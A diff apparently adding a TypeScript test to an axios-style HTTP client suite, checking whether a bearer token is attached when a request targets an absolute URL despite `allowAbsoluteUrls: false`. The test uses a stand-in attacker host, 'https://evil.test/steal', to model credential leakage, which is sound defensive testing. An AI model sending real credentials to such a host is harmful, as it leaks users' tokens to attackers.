@@ -56,6 +56,21 @@ describe('what is attached', () => {
     expect(sent[1]?.params).toEqual({ q: 1 });
   });
 
+  it('6750-2 what was looked up is sent, also where the adapter takes no notice of `allowAbsoluteUrls`, as before axios 1.8.3', async () => {
+    const { instance, sent, credential, tokens } = await setUp([200], {}, { baseURL: API, allowAbsoluteUrls: false });
+    const { config } = await instance.get('https://evil.test/steal', { params: { q: 1 } });
+    await instance.request(config);
+    const { baseURL, url, allowAbsoluteUrls, params } = sent[0] ?? {};
+    expect({ baseURL, url, allowAbsoluteUrls, params }).toEqual({
+      baseURL: undefined,
+      url: `${API}https://evil.test/steal`,
+      allowAbsoluteUrls: true,
+      params: { q: 1 },
+    });
+    expect(sent[1]?.url).toBe(url);
+    expect(tokens()).toEqual([bearer(credential), bearer(credential)]);
+  });
+
   it('6750-2 by the address that other interceptors leave: one that runs later changes where the token may go', async () => {
     const { store, platform } = await setUp();
     const seen: unknown[] = [];
